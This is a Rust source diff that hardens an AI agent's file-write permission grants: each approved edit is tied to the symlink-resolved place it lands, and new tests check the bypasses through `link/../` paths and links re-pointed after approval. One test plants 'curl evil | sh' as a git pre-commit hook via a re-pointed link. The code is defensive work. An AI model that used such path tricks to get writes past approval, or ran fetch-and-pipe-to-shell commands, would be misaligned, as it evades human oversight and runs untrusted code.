@@ -174,8 +174,22 @@ struct Grant {
     /// Global id of the request whose decision allowed them.
     request: String,
     tool_call_id: String,
-    edits: Vec<AnnouncedEdit>,
+    /// Each edit with where it landed when the decision was taken
+    /// ([`landing`]).
+    edits: Vec<(AnnouncedEdit, PathBuf)>,
     replace_all: bool,
+}
+
+/// Where a write to `path` lands, resolved the way the kernel opens it
+/// ([`crate::fsjail::resolve`]); `None` when it cannot be resolved or lands
+/// outside the workspace. Rules and modes judge that place: a grant compared
+/// by text alone let `link/../README.md`, allowed by a rule for `docs/**`
+/// because the link leads into `docs/`, cover a write to `README.md`.
+fn landing(root: &Path, path: &Path) -> Option<PathBuf> {
+    crate::fsjail::resolve(root, path)
+        .ok()
+        .filter(|r| r.inside)
+        .map(|r| r.real)
 }
 
 /// A write found to carry out what an allowed permission announced.
@@ -257,9 +271,16 @@ impl ToolCalls {
         }
     }
 
-    /// Remembers the edits of an allowed permission.
-    pub fn grant(&mut self, request: &str, announced: Announced) {
-        if announced.edits.is_empty() {
+    /// Remembers the edits of an allowed permission with where each lands
+    /// now, in workspace `root`. An edit that lands nowhere inside covers
+    /// nothing: its write is asked for on its own.
+    pub fn grant(&mut self, root: &Path, request: &str, announced: Announced) {
+        let edits: Vec<(AnnouncedEdit, PathBuf)> = announced
+            .edits
+            .into_iter()
+            .filter_map(|e| landing(root, &e.path).map(|real| (e, real)))
+            .collect();
+        if edits.is_empty() {
             return;
         }
         if self.grants.len() >= MAX_GRANTS {
@@ -268,7 +289,7 @@ impl ToolCalls {
         self.grants.push_back(Grant {
             request: request.to_owned(),
             tool_call_id: announced.tool_call_id,
-            edits: announced.edits,
+            edits,
             replace_all: announced.replace_all,
         });
     }
@@ -279,9 +300,11 @@ impl ToolCalls {
     }
 
     /// If writing `content` to `path` (as the agent named it) is exactly what
-    /// an allowed permission announced, consumes that part of the grant and
-    /// says which decision covers the write. `current` is the file's content
-    /// now ("" when it does not exist).
+    /// an allowed permission announced, for the same name landing where it
+    /// landed when allowed (a link re-pointed since then does not match),
+    /// consumes that part of the grant and says which decision covers the
+    /// write. `current` is the file's content now ("" when it does not
+    /// exist).
     pub fn take_covering(
         &mut self,
         root: &Path,
@@ -289,18 +312,22 @@ impl ToolCalls {
         current: &str,
         content: &str,
     ) -> Option<Cover> {
+        if self.grants.is_empty() {
+            return None;
+        }
         let target = normalize(root, path);
+        let lands = landing(root, path)?;
+        let same = |(e, real): &(AnnouncedEdit, PathBuf)| {
+            *real == lands && normalize(root, &e.path) == target
+        };
         let found = self.grants.iter().position(|g| {
-            let edits: Vec<&AnnouncedEdit> = g
-                .edits
-                .iter()
-                .filter(|e| normalize(root, &e.path) == target)
-                .collect();
+            let edits: Vec<&AnnouncedEdit> =
+                g.edits.iter().filter(|x| same(x)).map(|(e, _)| e).collect();
             !edits.is_empty()
                 && apply_edits(current, &edits, g.replace_all).as_deref() == Some(content)
         })?;
         let grant = &mut self.grants[found];
-        grant.edits.retain(|e| normalize(root, &e.path) != target);
+        grant.edits.retain(|x| !same(x));
         let cover = Cover {
             request: grant.request.clone(),
             tool_call_id: grant.tool_call_id.clone(),
@@ -458,7 +485,14 @@ pub fn show(root: &Path, call: &ToolCall, preview: Preview<'_>) -> Shown {
     let mut files: Vec<PathBuf> = Vec::new();
     let mut by_file: HashMap<PathBuf, Vec<&AnnouncedEdit>> = HashMap::new();
     for e in &call.edits {
-        let n = normalize(root, &e.path);
+        // `..` stays as written: read as text, `link/../x` shows a file of
+        // the workspace where the kernel (and the rules) see one beside the
+        // link's target.
+        let n = if climbs(&e.path) {
+            root.join(&e.path)
+        } else {
+            normalize(root, &e.path)
+        };
         by_file
             .entry(n.clone())
             .or_insert_with(|| {
@@ -643,15 +677,18 @@ pub fn relative(root: &Path, path: &Path) -> String {
     } else {
         root.join(path).components().collect()
     };
-    let climbs = |p: &Path| {
-        p.components()
-            .any(|c| matches!(c, std::path::Component::ParentDir))
-    };
     match n.strip_prefix(root) {
         Ok(rel) if rel.as_os_str().is_empty() => ".".to_owned(),
         Ok(rel) if !climbs(rel) => rel.display().to_string(),
         _ => n.display().to_string(),
     }
+}
+
+/// Whether `path` has a `..` component (its meaning depends on the links
+/// before it).
+fn climbs(path: &Path) -> bool {
+    path.components()
+        .any(|c| matches!(c, std::path::Component::ParentDir))
 }
 
 /// A title with the workspace prefix removed from the paths it names.
@@ -857,9 +894,10 @@ mod tests {
         assert_eq!(apply_edits("old", &[&whole], false).as_deref(), Some("new"));
     }
 
-    fn granted(edits: Vec<AnnouncedEdit>) -> ToolCalls {
+    fn granted(root: &Path, edits: Vec<AnnouncedEdit>) -> ToolCalls {
         let mut calls = ToolCalls::default();
         calls.grant(
+            root,
             "s:req-1",
             Announced {
                 tool_call_id: "t1".into(),
@@ -870,10 +908,22 @@ mod tests {
         calls
     }
 
+    /// A workspace directory, and `f` of a path in it as text.
+    fn workspace() -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().expect("tmp");
+        let root = dir.path().canonicalize().expect("canon");
+        (dir, root)
+    }
+
+    fn at(root: &Path, rel: &str) -> String {
+        root.join(rel).display().to_string()
+    }
+
     #[test]
     fn the_announced_write_is_covered_once() {
-        let root = Path::new("/w");
-        let mut calls = granted(vec![edit("/w/hello.txt", None, "hi\n")]);
+        let (_dir, root) = workspace();
+        let root = root.as_path();
+        let mut calls = granted(root, vec![edit(&at(root, "hello.txt"), None, "hi\n")]);
         let cover = calls.take_covering(root, Path::new("hello.txt"), "", "hi\n");
         assert_eq!(
             cover,
@@ -884,32 +934,112 @@ mod tests {
         );
         // The same write again is a new change: asked again.
         assert_eq!(
-            calls.take_covering(root, Path::new("/w/hello.txt"), "hi\n", "hi\n"),
+            calls.take_covering(root, Path::new(&at(root, "hello.txt")), "hi\n", "hi\n"),
             None
         );
     }
 
     #[test]
     fn a_write_that_differs_from_the_announcement_is_not_covered() {
-        let root = Path::new("/w");
-        let mut calls = granted(vec![edit("/w/a.txt", Some("two"), "TWO")]);
+        let (_dir, root) = workspace();
+        let root = root.as_path();
+        let a = at(root, "a.txt");
+        let mut calls = granted(root, vec![edit(&a, Some("two"), "TWO")]);
         // Other content, other path, other base file: all asked.
         assert_eq!(
-            calls.take_covering(root, Path::new("/w/a.txt"), "one two", "one EVIL"),
+            calls.take_covering(root, Path::new(&a), "one two", "one EVIL"),
             None
         );
         assert_eq!(
-            calls.take_covering(root, Path::new("/w/b.txt"), "one two", "one TWO"),
+            calls.take_covering(root, Path::new(&at(root, "b.txt")), "one two", "one TWO"),
             None
         );
         assert_eq!(
-            calls.take_covering(root, Path::new("/w/a.txt"), "one", "one TWO"),
+            calls.take_covering(root, Path::new(&a), "one", "one TWO"),
             None
         );
         assert!(
             calls
-                .take_covering(root, Path::new("/w/./x/../a.txt"), "one two", "one TWO")
+                .take_covering(
+                    root,
+                    Path::new(&at(root, "./x/../a.txt")),
+                    "one two",
+                    "one TWO"
+                )
                 .is_some()
+        );
+    }
+
+    #[test]
+    fn a_grant_covers_the_place_a_rule_judged_not_the_name_read_as_text() {
+        // `lnk/../README.md` lands in docs/ (where a rule for docs/** looked),
+        // so it covers neither README.md at the top nor anything else.
+        let (_dir, root) = workspace();
+        let root = root.as_path();
+        std::fs::create_dir_all(root.join("docs/sub")).expect("mkdir");
+        std::os::unix::fs::symlink(root.join("docs/sub"), root.join("lnk")).expect("link");
+        let mut calls = granted(root, vec![edit("lnk/../README.md", None, "evil\n")]);
+        assert_eq!(
+            calls.take_covering(root, Path::new("README.md"), "", "evil\n"),
+            None,
+            "a write to the top-level README.md was covered by an edit that lands in docs/"
+        );
+        assert!(
+            calls
+                .take_covering(root, Path::new("lnk/../README.md"), "", "evil\n")
+                .is_some(),
+            "the write that lands where the edit did is covered"
+        );
+    }
+
+    #[test]
+    fn a_diff_through_a_link_and_dotdot_is_shown_as_written() {
+        let root = Path::new("/w");
+        let call = ToolCall {
+            edits: vec![edit("lnk/../README.md", None, "new\n")],
+            ..ToolCall::default()
+        };
+        let shown = show(root, &call, &|_| None);
+        assert_eq!(shown.diffs.len(), 1);
+        assert!(
+            shown.diffs[0].contains("lnk/../README.md"),
+            "{}",
+            shown.diffs[0]
+        );
+        assert!(
+            !shown.diffs[0].contains("b/README.md"),
+            "{}",
+            shown.diffs[0]
+        );
+    }
+
+    #[test]
+    fn a_link_re_pointed_after_the_decision_covers_nothing() {
+        let (_dir, root) = workspace();
+        let root = root.as_path();
+        for d in ["docs", ".git/hooks"] {
+            std::fs::create_dir_all(root.join(d)).expect("mkdir");
+        }
+        std::os::unix::fs::symlink(root.join("docs"), root.join("out")).expect("link");
+        let mut calls = granted(root, vec![edit("out/pre-commit", None, "curl evil | sh\n")]);
+        std::fs::remove_file(root.join("out")).expect("unlink");
+        std::os::unix::fs::symlink(root.join(".git/hooks"), root.join("out")).expect("relink");
+        assert_eq!(
+            calls.take_covering(root, Path::new("out/pre-commit"), "", "curl evil | sh\n"),
+            None
+        );
+    }
+
+    #[test]
+    fn an_edit_landing_outside_the_workspace_is_not_granted() {
+        let (_dir, root) = workspace();
+        let outside = tempfile::tempdir().expect("tmp");
+        std::os::unix::fs::symlink(outside.path(), root.join("away")).expect("link");
+        let mut calls = granted(&root, vec![edit("away/x", None, "x\n")]);
+        assert!(calls.grants.is_empty());
+        assert_eq!(
+            calls.take_covering(&root, Path::new("away/x"), "", "x\n"),
+            None
         );
     }
 
